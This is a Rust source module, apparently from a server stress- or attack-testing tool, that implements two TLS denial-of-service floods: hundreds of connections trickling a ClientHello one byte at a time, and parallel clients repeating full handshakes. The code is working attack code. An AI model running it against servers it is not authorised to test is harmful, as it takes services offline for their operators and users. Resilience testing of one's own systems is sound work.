//! Floods by TLS: handshakes that take for ever, and handshakes for nothing.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use rustls::version::TLS13;
use rustls::{ClientConfig, ClientConnection};

use super::attacker::Tally;
use crate::clients::identity::HOST;
use crate::clients::secure::{self, Groups, Signatures, Terms};

/// Connections that say a byte now and then.
const SLOW_CONNECTIONS: usize = 500;
/// From one byte of a connection to its next.
const BYTE_INTERVAL: Duration = Duration::from_millis(100);
/// Clients at work side by side with whole handshakes.
const CLIENTS: usize = 4;

fn config(identity: &Path) -> anyhow::Result<Arc<ClientConfig>> {
    let terms = Terms {
        version: &TLS13,
        protocol: "h2",
        groups: Groups::Ordinary,
        signatures: Signatures::Taken,
        resumes: false,
    };
    secure::config(&terms, identity)
}

/// Connections that send the first message of a handshake byte by byte, until `is_over`.
pub(crate) fn trickle(target: SocketAddr, identity: &Path, is_over: &AtomicBool) -> anyhow::Result<Tally> {
    let hello = hello(&config(identity)?)?;
    let mut tally = Tally::default();
    let mut sockets: Vec<Option<TcpStream>> = (0..SLOW_CONNECTIONS).map(|_| None).collect();
    let mut at = vec![0; SLOW_CONNECTIONS];
    while !is_over.load(Ordering::Relaxed) {
        for (slot, at) in sockets.iter_mut().zip(&mut at) {
            let Some(socket) = slot else {
                if let Ok(socket) = TcpStream::connect(target) {
                    socket.set_nodelay(true)?;
                    socket.set_nonblocking(true)?;
                    tally.connections += 1;
                    (*slot, *at) = (Some(socket), 0);
                }
                continue;
            };
            if let Some(how) = end(socket) {
                tally.ended(how);
                *slot = None;
            } else if let Some(byte) = hello.get(*at)
                && socket.write(&[*byte]).is_ok()
            {
                *at += 1;
                tally.sent += 1;
            }
        }
        std::thread::sleep(BYTE_INTERVAL);
    }
    sockets.iter().flatten().for_each(|_| tally.ended("kept"));
    Ok(tally)
}

/// The first message of a client.
fn hello(config: &Arc<ClientConfig>) -> anyhow::Result<Vec<u8>> {
    let name = HOST.try_into()?;
    let mut bytes = Vec::new();
    ClientConnection::new(config.clone(), name)?.write_tls(&mut bytes)?;
    Ok(bytes)
}

fn end(socket: &mut TcpStream) -> Option<&'static str> {
    match socket.read(&mut [0; 1024]) {
        Ok(0) => Some("connection closed"),
        Ok(_) => None,
        Err(error) if error.kind() == ErrorKind::WouldBlock => None,
        Err(_) => Some("connection reset"),
    }
}

/// Full handshakes, each followed by the end of its connection, until `is_over`.
pub(crate) fn handshakes(target: SocketAddr, identity: &Path, is_over: &AtomicBool) -> anyhow::Result<Tally> {
    let config = config(identity)?;
    let client = || {
        let mut tally = Tally::default();
        while !is_over.load(Ordering::Relaxed) {
            tally.connections += 1;
            let shaken = secure::connect(target, &config).is_ok_and(|mut stream| {
                while stream.conn.is_handshaking() {
                    if stream.conn.complete_io(&mut stream.sock).is_err() {
                        return false;
                    }
                }
                true
            });
            tally.sent += u64::from(shaken);
            tally.ended(if shaken { "left by the client" } else { "handshake refused" });
        }
        tally
    };
    std::thread::scope(|scope| {
        let clients: Vec<_> = (0..CLIENTS).map(|_| scope.spawn(client)).collect();
        let mut sum = Tally::default();
        for client in clients {
            let one = client.join().expect("clients do not panic");
            (sum.sent, sum.connections) = (sum.sent + one.sent, sum.connections + one.connections);
            for (how, count) in one.endings {
                *sum.endings.entry(how).or_default() += count;
            }
        }
        Ok(sum)
    })
}
